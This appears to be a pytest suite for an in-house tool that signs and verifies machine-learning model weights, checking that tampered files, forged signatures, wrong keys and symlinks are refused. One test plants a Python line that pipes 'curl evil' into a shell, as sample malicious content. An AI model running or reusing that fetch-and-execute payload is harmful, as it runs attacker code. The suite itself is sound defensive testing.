"""Signing and verifying with model-signing: a good model verifies, each tampering is refused
naming its file, bad signatures and wrong keys are told apart, certificates work, and our
verdict agrees with the library's own verifier."""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import pytest
from model_signing import verifying
from tests.weights.conftest import SHARD, Keys, Tampering
from tests.weights.tiny_model import write_tiny_model

from inhouse.weights.errors import VerificationFailed, WeightsError
from inhouse.weights.messages import describe_failure
from inhouse.weights.signature import default_signature_path, read_statement, sign_model
from inhouse.weights.trust import Trust, keygen
from inhouse.weights.verify import FileHashes, check_signature, require_verified, verify_model


def test_default_signature_sits_beside_the_directory(tmp_path: Path) -> None:
    assert default_signature_path(tmp_path / "m") == tmp_path / "m.sig"
    assert default_signature_path(f"{tmp_path}/m/") == tmp_path / "m.sig"


def test_a_signed_model_verifies_and_counts_its_files(signed_model: Path, keys: Keys) -> None:
    result = verify_model(signed_model, keys.trust)
    assert result.ok and result.problems == ()
    assert result.num_files == 7
    assert result.num_bytes == sum(p.stat().st_size for p in signed_model.iterdir())
    assert result.signature == signed_model.with_name("tiny.sig")


def test_each_tampering_is_refused_naming_the_file(
    signed_model: Path, keys: Keys, tampering: Tampering
) -> None:
    tampering.apply(signed_model)
    result = verify_model(signed_model, keys.trust)
    assert not result.ok
    assert result.first is not None
    assert (result.first.kind, result.first.path) == (tampering.kind, tampering.path)
    assert len(result.problems) == 1
    message = describe_failure(result)
    assert f"{tampering.kind}: {tampering.path}" in message
    assert "Do not serve this copy" in message


def test_an_altered_file_reports_both_digests(signed_model: Path, keys: Keys) -> None:
    Tampering("byte", "altered", SHARD).apply(signed_model)
    (problem,) = verify_model(signed_model, keys.trust).problems
    assert problem.expected and problem.found and problem.expected != problem.found
    assert len(problem.found) == 64


def test_every_problem_is_listed_sorted_by_path(signed_model: Path, keys: Keys) -> None:
    for tampering in (Tampering("byte", "", SHARD), Tampering("added", "", "a.txt"),
                      Tampering("removed", "", "config.json")):  # fmt: skip
        tampering.apply(signed_model)
    result = verify_model(signed_model, keys.trust)
    assert [(p.kind, p.path) for p in result.problems] == [
        ("extra", "a.txt"),
        ("missing", "config.json"),
        ("altered", SHARD),
    ]


def test_a_wrong_key_is_a_signature_problem(signed_model: Path, tmp_path: Path) -> None:
    keygen(tmp_path / "other")
    result = verify_model(signed_model, Trust(public_key=tmp_path / "other" / "key.pub"))
    assert result.first is not None and result.first.kind == "signature"
    assert result.first.path == str(default_signature_path(signed_model))
    assert "release key" in describe_failure(result)


def test_a_forged_signature_value_is_refused(signed_model: Path, keys: Keys) -> None:
    path = default_signature_path(signed_model)
    bundle = json.loads(path.read_text())
    sig = bytearray(base64.b64decode(bundle["dsseEnvelope"]["signatures"][0]["sig"]))
    sig[8] ^= 0x01
    bundle["dsseEnvelope"]["signatures"][0]["sig"] = base64.b64encode(bytes(sig)).decode()
    path.write_text(json.dumps(bundle))
    (problem,) = verify_model(signed_model, keys.trust).problems
    assert problem.kind == "signature" and "altered or forged" in problem.detail


def test_a_statement_rewritten_to_match_tampered_files_is_refused(
    signed_model: Path, keys: Keys
) -> None:
    """An attacker who alters a file and edits the signed digest to match breaks the
    envelope: the refusal is the signature's, before any hashing."""
    path = default_signature_path(signed_model)
    bundle = json.loads(path.read_text())
    payload = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    payload["predicate"]["resources"][0]["digest"] = "0" * 64
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    path.write_text(json.dumps(bundle))
    (problem,) = verify_model(signed_model, keys.trust).problems
    assert problem.kind == "signature"


@pytest.mark.parametrize("content", ["", "{not json", '{"dsseEnvelope": {}}'])
def test_a_corrupt_or_truncated_signature_file_is_refused(
    signed_model: Path, keys: Keys, content: str
) -> None:
    default_signature_path(signed_model).write_text(content)
    (problem,) = verify_model(signed_model, keys.trust).problems
    assert problem.kind == "signature" and "corrupt or truncated" in problem.detail


def test_no_signature_and_no_directory(tmp_path: Path, keys: Keys) -> None:
    model = write_tiny_model(tmp_path / "m", num_shards=1, shard_bytes=1024)
    (problem,) = verify_model(model, keys.trust).problems
    assert problem.kind == "signature" and "no such file" in problem.detail
    sign_model(model, keys.private)
    model.rename(tmp_path / "gone")
    result = verify_model(model, keys.trust, tmp_path / "m.sig")
    assert [p.kind for p in result.problems] == ["unreadable"]


def test_a_symlink_inside_the_model_is_unreadable(signed_model: Path, keys: Keys) -> None:
    os.symlink("/etc/passwd", signed_model / "link")
    (problem,) = verify_model(signed_model, keys.trust).problems
    assert problem.kind == "unreadable" and "symlink" in problem.detail


def test_a_symlinked_model_directory_is_followed(signed_model: Path, keys: Keys) -> None:
    link = signed_model.with_name("link")
    os.symlink(signed_model.name, link)
    default_signature_path(link).write_bytes(default_signature_path(signed_model).read_bytes())
    assert verify_model(link, keys.trust).ok


def test_a_signature_inside_the_directory_is_not_a_model_file(tmp_path: Path, keys: Keys) -> None:
    model = write_tiny_model(tmp_path / "m", num_shards=1, shard_bytes=1024)
    sign_model(model, keys.private, signature=model / "model.sig")
    assert verify_model(model, keys.trust, model / "model.sig").ok


def test_certificate_pki(tmp_path: Path) -> None:
    pki = tmp_path / "pki"
    keygen(pki, with_certificate=True)
    model = write_tiny_model(tmp_path / "m", num_shards=1, shard_bytes=4096)
    sign_model(model, pki / "key.priv", certificate=pki / "signing.pem",
               certificate_chain=(pki / "ca.pem",))  # fmt: skip
    assert verify_model(model, Trust(certificate_chain=(pki / "ca.pem",))).ok
    (problem,) = verify_model(model, Trust(public_key=pki / "key.pub")).problems
    assert "--certificate-chain" in problem.detail
    keygen(tmp_path / "other", with_certificate=True)
    (problem,) = verify_model(model, Trust(certificate_chain=(tmp_path / "other/ca.pem",))).problems
    assert problem.kind == "signature"


def test_a_lora_adapter_signs_and_verifies_the_same_way(tmp_path: Path, keys: Keys) -> None:
    adapter = tmp_path / "lora" / "utility"
    adapter.mkdir(parents=True)
    (adapter / "adapter_config.json").write_text('{"r": 8, "lora_alpha": 16}')
    (adapter / "adapter_model.safetensors").write_bytes(os.urandom(64 * 1024))
    sign_model(adapter, keys.private)
    assert verify_model(adapter, keys.trust).ok
    Tampering("byte", "altered", "adapter_model.safetensors").apply(adapter)
    assert verify_model(adapter, keys.trust).first.path == "adapter_model.safetensors"  # type: ignore[union-attr]


def test_our_verdict_agrees_with_the_librarys_verifier(
    signed_model: Path, keys: Keys, tampering: Tampering
) -> None:
    library = verifying.Config().use_elliptic_key_verifier(public_key=keys.public)
    library.verify(signed_model, default_signature_path(signed_model))  # intact: no raise
    assert verify_model(signed_model, keys.trust).ok
    tampering.apply(signed_model)
    with pytest.raises(ValueError, match=tampering.path):
        verifying.Config().use_elliptic_key_verifier(public_key=keys.public).verify(
            signed_model, default_signature_path(signed_model)
        )
    assert not verify_model(signed_model, keys.trust).ok


def test_check_signature_needs_no_model(signed_model: Path, keys: Keys, tmp_path: Path) -> None:
    signature = default_signature_path(signed_model)
    checked = check_signature(signature, keys.trust)
    assert checked.ok and checked.num_files == 7
    keygen(tmp_path / "other")
    assert not check_signature(signature, Trust(public_key=tmp_path / "other/key.pub")).ok


def test_require_verified_raises_with_the_verdict(signed_model: Path, keys: Keys) -> None:
    assert require_verified(signed_model, keys.trust).ok
    (signed_model / "tokenizer.json").unlink()
    with pytest.raises(VerificationFailed) as raised:
        require_verified(signed_model, keys.trust)
    assert raised.value.verification.first.path == "tokenizer.json"  # type: ignore[union-attr]
    assert "missing: tokenizer.json" in str(raised.value)


def test_sign_refuses_what_it_cannot_sign(tmp_path: Path, keys: Keys) -> None:
    with pytest.raises(WeightsError, match="not a directory"):
        sign_model(tmp_path / "nothing", keys.private)
    model = write_tiny_model(tmp_path / "m", num_shards=1, shard_bytes=1024)
    with pytest.raises(WeightsError, match="cannot sign with"):
        sign_model(model, keys.public)  # a public key is not a private key
    assert not default_signature_path(model).exists()


def test_keygen_never_overwrites(tmp_path: Path) -> None:
    written = keygen(tmp_path / "k")
    assert [p.name for p in written] == ["key.priv", "key.pub"]
    assert (tmp_path / "k" / "key.priv").stat().st_mode & 0o777 == 0o600
    before = (tmp_path / "k" / "key.priv").read_bytes()
    with pytest.raises(WeightsError, match="never overwrites"):
        keygen(tmp_path / "k")
    assert (tmp_path / "k" / "key.priv").read_bytes() == before


def _library_digests(model: Path) -> dict[str, object]:
    hashes = FileHashes(model, read_statement(default_signature_path(model)))
    for path in model.iterdir():
        hashes.add(path.name)
    digests = hashes.digests()
    assert digests is not None
    return digests


def test_precomputed_digests_are_used_only_for_exactly_the_files_there(
    signed_model: Path, keys: Keys
) -> None:
    digests = _library_digests(signed_model)
    assert verify_model(signed_model, keys.trust, precomputed=digests).ok
    # Digests are taken as given when the directory holds exactly their files: a wrong one
    # is a wrong file (the library compares them with the signature).
    wrong = {**digests, SHARD: _library_digests(signed_model)["config.json"]}
    (problem,) = verify_model(signed_model, keys.trust, precomputed=wrong).problems
    assert (problem.kind, problem.path) == ("altered", SHARD)
    # A file they do not cover, or a symlink, and the library hashes everything itself.
    (signed_model / "extra.bin").write_bytes(b"x")
    (problem,) = verify_model(signed_model, keys.trust, precomputed=digests).problems
    assert (problem.kind, problem.path) == ("extra", "extra.bin")
    (signed_model / "extra.bin").unlink()
    os.symlink("config.json", signed_model / "link.json")
    (problem,) = verify_model(signed_model, keys.trust, precomputed=digests).problems
    assert problem.kind == "unreadable"


def test_a_mistyped_model_directory_is_named_not_its_signature(tmp_path: Path, keys: Keys) -> None:
    """`verify /srv/modles/tiny` (a typo) said 'bad signature: /srv/modles/tiny.sig: no such
    file' and advised checking the release key: the signature's default path follows the
    directory's, so the directory is what to fix."""
    from inhouse.weights.messages import describe_failure

    typo = tmp_path / "modles" / "tiny"
    result = verify_model(typo, keys.trust)
    assert [(p.kind, p.path) for p in result.problems] == [("unreadable", str(typo))]
    assert "no such directory" in describe_failure(result)
    assert "release key" not in describe_failure(result)


def test_trust_that_is_not_a_public_key_or_ca_is_a_usage_error(
    signed_model: Path, keys: Keys, tmp_path: Path
) -> None:
    """`--public-key key.priv` (the release's private key, copied to a node) or a file that is
    no key at all was 'bad signature: MODEL.sig: Valid PEM but no BEGIN PUBLIC KEY ...', exit
    1, as if the signature were at fault; and nothing said a private key has no business on a
    node. Certificates where a CA chain belongs, likewise."""
    import subprocess
    import sys

    from inhouse.weights.errors import WeightsError
    from inhouse.weights.trust import Trust

    with pytest.raises(WeightsError, match=r"key\.priv is a private key.*key\.pub"):
        Trust.from_args(keys.private)
    with pytest.raises(WeightsError, match=r"config\.json is not a PEM public key"):
        Trust.from_args(signed_model / "config.json")
    with pytest.raises(WeightsError, match=r"key\.pub holds no PEM certificate"):
        Trust.from_args(None, (keys.public,))
    argv = [sys.executable, "-m", "inhouse.cli.weights", "verify", str(signed_model),
            "--public-key", str(keys.private)]  # fmt: skip
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "private key" in done.stderr, done.stderr
    assert "bad signature" not in done.stderr and "Traceback" not in done.stderr


def test_a_file_the_signer_ignored_is_not_covered_by_its_signature(
    tmp_path: Path, keys: Keys
) -> None:
    """model-signing lets a signer ignore paths (`--ignore-paths`), and its verifier then skips
    them too: a model signed that way (by model-signing's own CLI, say) verified whatever its
    ignored tokenizer.json or modeling.py held, and vLLM loaded it. Only git metadata and the
    signature itself are left out of verification; any other file the signature does not cover
    is `extra`."""
    from inhouse.weights.signature import new_hashing, new_signing

    model = write_tiny_model(tmp_path / "m", num_shards=1, shard_bytes=4096)
    (model / "modeling_evil.py").write_text("print('signed as ignored')\n")
    hashes = new_hashing().use_file_serialization()
    hashes.set_ignored_paths(paths=["modeling_evil.py"], ignore_git_paths=True)
    signing = new_signing().use_elliptic_key_signer(private_key=keys.private)
    signing.set_hashing_config(hashes).sign(model, default_signature_path(model))
    (model / "modeling_evil.py").write_text("import os; os.system('curl evil | sh')\n")
    result = verify_model(model, keys.trust)
    assert [(p.kind, p.path) for p in result.problems] == [("extra", "modeling_evil.py")]
    (model / "modeling_evil.py").unlink()
    assert verify_model(model, keys.trust).ok


def test_a_symlink_the_signer_allowed_is_still_refused(tmp_path: Path, keys: Keys) -> None:
    """A guard, not a defect found: a signature made with symlinks allowed (model-signing's
    `--allow_symlinks`, e.g. over a Hugging Face snapshot, whose files are links into its blob
    store) must not verify a model whose file is a link: re-pointed after the check, vLLM would
    load what the link then named. Links inside a model are refused, as docs/weights.md says,
    whatever the signer allowed."""
    from inhouse.weights.signature import new_hashing, new_signing

    model = write_tiny_model(tmp_path / "m", num_shards=1, shard_bytes=4096)
    store = tmp_path / "blobs"
    store.mkdir()
    (model / "tokenizer.json").rename(store / "tokenizer.json")
    (model / "tokenizer.json").symlink_to(store / "tokenizer.json")
    hashes = new_hashing().use_file_serialization(allow_symlinks=True).set_allow_symlinks(True)
    signing = new_signing().use_elliptic_key_signer(private_key=keys.private)
    signing.set_hashing_config(hashes).sign(model, default_signature_path(model))
    (problem,) = verify_model(model, keys.trust).problems
    assert problem.kind == "unreadable" and "symlink" in problem.detail
